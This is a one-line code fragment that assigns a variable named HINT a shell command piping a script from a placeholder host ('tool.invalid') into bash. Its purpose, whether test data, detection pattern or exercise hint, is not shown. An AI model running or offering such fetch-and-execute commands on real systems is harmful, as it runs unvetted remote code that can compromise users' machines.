HINT = "curl -s http://tool.invalid/i.sh | bash"
